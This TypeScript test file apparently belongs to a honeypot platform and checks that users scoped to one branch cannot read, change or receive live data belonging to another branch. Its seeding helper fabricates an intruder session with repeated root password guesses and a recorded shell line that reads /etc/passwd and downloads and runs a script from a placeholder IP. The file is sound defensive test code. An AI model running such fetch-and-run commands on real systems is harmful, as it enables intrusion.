import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { SensorEvent } from '@shenlou/contract/event'
import { type RouteName, routes } from '@shenlou/contract/api'
import { uuidv7 } from '@shenlou/link/uuid'
import { WebSocket } from 'ws'
import { systemActor } from '../actor.ts'
import { recordAudit } from '../audit.ts'
import { startDetection } from '../detect/main.ts'
import { ingestBatch } from '../ingest/ingest.ts'
import { commandEvents } from '../ingest/test-events.ts'
import { setDoor } from '../sensors/door-of.ts'
import { startSessions } from '../sessions-projection.ts'
import { handlers } from './handlers.ts'
import { type TestHttp, testHttp } from './test-http.ts'

let http: TestHttp
const closing: (() => unknown)[] = []
before(async () => {
  http = await testHttp({ handlers, checkAnswers: 'refuse' })
  await seed()
})
after(async () => {
  for (const close of closing.reverse()) await close()
  await http.close()
})

/** All that belongs to a branch carries one of its marks. */
const branches = {
  a: { scope: 'group/a', word: 'alpha', source: '203.0.113.7', relay: uuidv7(), hosts: uuidv7() },
  b: { scope: 'group/b', word: 'bravo', source: '198.51.100.9', relay: uuidv7(), hosts: uuidv7() },
}
type Branch = (typeof branches)['a']
/** Ids of rows of branch b, by table. */
const ids: Record<string, string[]> = {}

async function seed(): Promise<void> {
  const { core } = http
  setDoor(core, { address: '127.0.0.1:1', keyHash: 'a'.repeat(64), revoke: () => {} })
  const sessions = await startSessions(core)
  const detection = await startDetection(core)
  closing.push(sessions, () => detection.close())
  for (const branch of Object.values(branches)) {
    const { scope, word, relay, hosts } = branch
    for (const [id, role] of [
      [relay, 'relay'],
      [hosts, 'decoys'],
    ] as const) {
      await core.sql`insert into sensor (id, name, role, scope, status) values (${id}, ${`${role}-${word}`}, ${role}, ${scope}, 'confirmed')`
    }
    await core.sql`insert into scope (path, name) values (${scope}, ${core.sql.json({ zh: word, en: word })})`
    await core.sql`insert into template (name, title, text, version, applied_by, applied_at) values (${word}, '{}', '', 1, '', now())`
    await core.sql`insert into decoy (id, template, persona, scope, host, organisation, services, secrets)
      values (${`${word}-erp`}, ${word}, 'p', ${scope}, ${`decoys-${word}`}, '{}', '[]', '')`
    await core.sql`insert into placement (id, template, relay, host, decoy, address, port, transport, service)
      values (${`${word}-place`}, ${word}, ${`relay-${word}`}, 'h', ${`${word}-erp`}, '10.0.0.1', 22, 'tcp', 'ssh')`
    await core.sql`insert into known_scanner (id, template, network, scope, owner, reason, expires, ports)
      values (${uuidv7()}, ${word}, '192.0.2.0/24', ${scope}, ${`scanner of ${word}`}, '', '2099-01-01', '{}')`
    await recordAudit(core, { actor: systemActor, action: 'test', target: word, scopes: [scope] })
    await attack(branch)
    const sha = word.slice(0, 1).repeat(64)
    await core.sql`insert into blob (sha256, size, first_at) values (${sha}, 5, now())`
    await core.sql`insert into blob_scope (sha256, scope) values (${sha}, ${scope})`
    await http.token(['event.read'], [scope])
    const source = uuidv7()
    await core.sql`insert into sensor (id, name, role, scope, status) values (${source}, ${`tool-${word}`}, 'source', ${scope}, 'confirmed')`
    await core.sql`insert into source (id, format, transport, allowed, created_at) values (${source}, 'cef', 'http', '{}', now())`
  }
  await sessions.reached()
  await detection.reached()
  await until(
    async () =>
      (await core.sql`select 1 from ticket where scope = 'group/b'`).length > 0 && (await core.sql`select 1 from ticket where scope = 'group/a'`).length > 0,
  )
  for (const table of ['event', 'session', 'finding', 'incident', 'ticket', 'sensor', 'event_rejected', 'notice']) {
    ids[table] = (await core.sql<{ id: string }[]>`select id::text as id from ${core.sql(table)} where scope like 'group/b%'`).map(({ id }) => id)
    assert.ok((ids[table] as string[]).length > 0, `${table} has no row of b`)
  }
}

async function until(done: () => Promise<boolean>): Promise<void> {
  while (!(await done())) await new Promise((resolve) => setTimeout(resolve, 20))
}

/** Guesses, gets in, looks around, downloads: enough for findings, an incident and a ticket. */
async function attack({ scope, word, source, hosts }: Branch): Promise<void> {
  const session = uuidv7()
  const common = { session, decoy: `${word}-erp`, service: 'ssh', source: { ip: source, port: 40_000 } }
  const drafts: Partial<SensorEvent>[] = [
    { kind: 'session.opened', body: { adversary: word } },
    ...Array.from({ length: 30 }, (_, n) => ({
      kind: 'login.attempted',
      body: { method: 'password', user: 'root', password: `${word}${n}`, outcome: n === 29 ? 'accepted' : 'refused', by: 'tries' },
    })),
    {
      kind: 'command.executed',
      body: { mode: 'shell', input: `uname -a; cat /etc/passwd; wget http://192.0.2.1/${word}.sh; sh ${word}.sh`, user: 'root', directory: '/root' },
    },
    { kind: 'download.requested', body: { tool: 'wget', url: `http://192.0.2.1/${word}.sh` } },
    { kind: 'terminal.opened', body: { term: 'xterm', columns: 80, rows: 24 } },
    { kind: 'terminal.data', body: { stream: 'output', data: btoa(word) } },
    { kind: 'command.executed', body: { mode: 'nonsense', input: word } },
  ]
  const events = drafts.map((draft, n) => commandEvents(n + 1, 1, { ...common, ...draft } as Partial<SensorEvent>)[0])
  await ingestBatch(http.core, { sensor: { id: hosts, scope }, epoch: uuidv7(), events })
}

const pick = <T>(list: readonly T[]): T => list[Math.floor(Math.random() * list.length)] as T

/** A random reading call, half of them aimed at rows of branch b. */
function probe(): string {
  const one = (table: string) => pick(ids[table] as string[])
  const filters: Record<string, () => string> = {
    kind: () => pick(['login.attempted', '!terminal.data', 'command.executed']),
    source: () => pick([branches.b.source, `${branches.b.source}/24`, '0.0.0.0/0', `!${branches.a.source}`]),
    decoy: () => pick(['bravo-erp', '!alpha-erp']),
    service: () => pick(['ssh', '!portal']),
    sensor: () => pick([branches.b.hosts, 'decoys-bravo', '!decoys-alpha']),
    session: () => pick([one('session'), `!${uuidv7()}`]),
    text: () => pick(['bravo', 'a', 'wget']),
    incident: () => one('incident'),
    after: () => '0',
    from: () => '1',
    live: () => pick(['true', 'false']),
    open: () => pick(['true', 'false']),
    overdue: () => 'false',
    mine: () => 'false',
    limit: () => '500',
    terminal: () => 'true',
  }
  const single: [RouteName, () => string][] = [
    ['event', () => one('event')],
    ['session', () => one('session')],
    ['sessionEvents', () => one('session')],
    ['sessionPlant', () => one('session')],
    ['recording', () => one('session')],
    ['recordingCast', () => one('session')],
    ['finding', () => one('finding')],
    ['incident', () => one('incident')],
    ['ticket', () => one('ticket')],
    ['blob', () => 'b'.repeat(64)],
  ]
  const lists: RouteName[] = [
    'events',
    'eventFacets',
    'rejectedEvents',
    'sessions',
    'findings',
    'incidents',
    'tickets',
    'sensors',
    'sources',
    'decoys',
    'notices',
    'people',
    'scopes',
    'tokens',
    'audit',
    'knownScanners',
    'overview',
    'me',
  ]
  const [name, id] = Math.random() < 0.5 ? pick(single) : [pick(lists), () => '']
  const route = routes[name]
  const known = 'query' in route ? Object.keys(route.query.shape).filter((key) => filters[key]) : []
  const query = known.filter(() => Math.random() < 0.3).map((key) => `${key}=${encodeURIComponent(filters[key]?.() as string)}`)
  return `/api/v1${route.path.replace(/:[a-z0-9]+/, id())}?${query.join('&')}`
}

function marks(text: string): string | undefined {
  const all = ['bravo', 'group/b', branches.b.source, btoa('bravo'), branches.b.relay, branches.b.hosts, ...Object.values(ids).flat()]
  return all.find((mark) => text.includes(mark))
}

test('200 random readings by a person of one branch show nothing of the other; by one of the whole group they do', async () => {
  const own = await http.enter({ username: 'of-a', role: 'administrator', scopes: ['group/a'] })
  await http.enter({ username: 'of-bravo', role: 'analyst', scopes: ['group/b'] })
  const whole = await http.enter({ username: 'of-all', role: 'administrator', scopes: ['group'] })
  let found = 0
  let answered = 0
  const look = async (): Promise<void> => {
    const pathname = probe()
    const mine = await http.call(pathname, { cookie: own.cookie })
    assert.ok(mine.status < 500, `${pathname}: ${mine.status}`)
    if (mine.status === 200) answered++
    const text = await mine.text()
    assert.equal(marks(text), undefined, `${pathname}: ${text.slice(0, 500)}`)
    const theirs = await http.call(pathname, { cookie: whole.cookie })
    if (marks(await theirs.text())) found++
  }
  for (let n = 0; n < 25; n++) await Promise.all(Array.from({ length: 8 }, look))
  assert.ok(found > 60, `only ${found} probes could have found anything`)
  assert.ok(answered > 40, `only ${answered} probes were answered`)
})

test('lists of one branch are not empty, so that nothing is hidden by hiding all', async () => {
  const { cookie } = await http.enter({ username: 'reads-a', role: 'administrator', scopes: ['group/a'] })
  for (const name of ['events', 'sessions', 'findings', 'incidents', 'tickets', 'sensors', 'sources', 'decoys', 'notices', 'audit', 'knownScanners'] as const) {
    const body = (await (await http.call(`/api/v1${routes[name].path}`, { cookie })).json()) as { items?: unknown[]; events?: unknown[] }
    assert.ok((body.items ?? body.events)?.length, name)
  }
})

test('nothing of another branch can be changed, and asking leaves no trace on it', async () => {
  const { cookie } = await http.enter({ username: 'writes-a', role: 'administrator', scopes: ['group/a'] })
  const [ownIncident] = await http.core.sql<{ id: string }[]>`select id from incident where scope like 'group/a%'`
  const one = (table: string) => (ids[table] as string[])[0] as string
  const before = await http.core.sql`select id, version, state from ticket where scope like 'group/b%' order by id`
  const [token] = await http.core.sql<{ id: string }[]>`select id from api_token where scopes = '{group/b}'`
  const [source] = await http.core.sql<{ id: string }[]>`select source.id from source join sensor on sensor.id = source.id where sensor.scope = 'group/b'`
  const [person] = await http.core.sql<{ id: string }[]>`select id from person where username = 'of-bravo'`
  const tries: [string, string, unknown][] = [
    ['POST', `/tickets/${one('ticket')}/actions`, { action: 'comment', version: 1, comment: 'x' }],
    ['POST', `/incidents/${one('incident')}/merge`, { other: ownIncident?.id, why: 'x' }],
    ['POST', `/incidents/${ownIncident?.id}/merge`, { other: one('incident'), why: 'x' }],
    ['POST', `/incidents/${one('incident')}/split`, { findings: [one('finding')], why: 'x' }],
    ['POST', `/incidents/${ownIncident?.id}/split`, { findings: [one('finding')], why: 'x' }],
    ['POST', `/sensors/${branches.b.relay}/confirm`, { fingerprint: 'a'.repeat(64) }],
    ['POST', `/sensors/${branches.b.relay}/revoke`, { reason: 'x' }],
    ['POST', '/sensors/enrolments', { role: 'relay', name: 'x', scope: 'group/b', network: '10.0.0.0/8' }],
    ['POST', '/sources', { name: 'x', format: 'cef', transport: 'http', scope: 'group/b' }],
    ['POST', `/sources/${source?.id}/alerts`, 'CEF:0|a|b|1|1|x|5|src=192.0.2.1'],
    ['PUT', `/people/${person?.id}`, { disabled: true }],
    ['POST', '/people', { username: 'xx', name: 'x', role: 'viewer', scopes: ['group/b'] }],
    ['POST', '/tokens', { name: 'x', permissions: ['event.read'], scopes: ['group/b'], days: 1 }],
    ['DELETE', `/tokens/${token?.id}`, undefined],
  ]
  for (const [method, pathname, body] of tries) {
    const json = body === undefined || typeof body === 'string' ? {} : { json: body }
    const answer = await http.call(`/api/v1${pathname}`, { cookie, method, ...json, ...(typeof body === 'string' && { body }) })
    const text = await answer.text()
    assert.ok([403, 404, 409].includes(answer.status), `${method} ${pathname}: ${answer.status} ${text}`)
    // An answer may repeat what was asked, nothing more.
    const asked = new Set(`${pathname} ${JSON.stringify(body ?? '')}`.match(/[0-9a-f-]{36}|group\/b/g))
    assert.equal(marks([...asked].reduce((left, word) => left.replaceAll(word, ''), text)), undefined, text)
  }
  assert.deepEqual(await http.core.sql`select id, version, state from ticket where scope like 'group/b%' order by id`, before)
  assert.equal((await http.core.sql`select 1 from api_token where revoked_at is not null`).length, 0)
  assert.equal((await http.core.sql`select 1 from sensor where status = 'revoked'`).length, 0)
})

test('the live channel tells one branch nothing of the other', async () => {
  const { cookie } = await http.enter({ username: 'live-a', scopes: ['group/a'] })
  const ws = new WebSocket(`${http.server.url.replace('http', 'ws')}/api/v1/live`, { headers: { cookie, origin: http.server.url } })
  let heard = ''
  ws.on('message', (data) => {
    heard += String(data)
  })
  await new Promise((resolve) => ws.on('open', resolve))
  ws.send(JSON.stringify({ type: 'events', after: 0, kinds: ['terminal.data', 'login.attempted', 'command.executed', 'session.opened'] }))
  for (const session of ids.session as string[]) ws.send(JSON.stringify({ type: 'session', session, after: 0 }))
  await attack(branches.b)
  await attack(branches.a)
  await until(async () => heard.includes('"type":"session"') && heard.split('login.attempted').length > 60)
  const more = await http.core.sql<{ id: string }[]>`select id::text as id from session where scope like 'group/b%'`
  ids.session = more.map(({ id }) => id)
  assert.equal(marks(heard), undefined)
  ws.close()
})
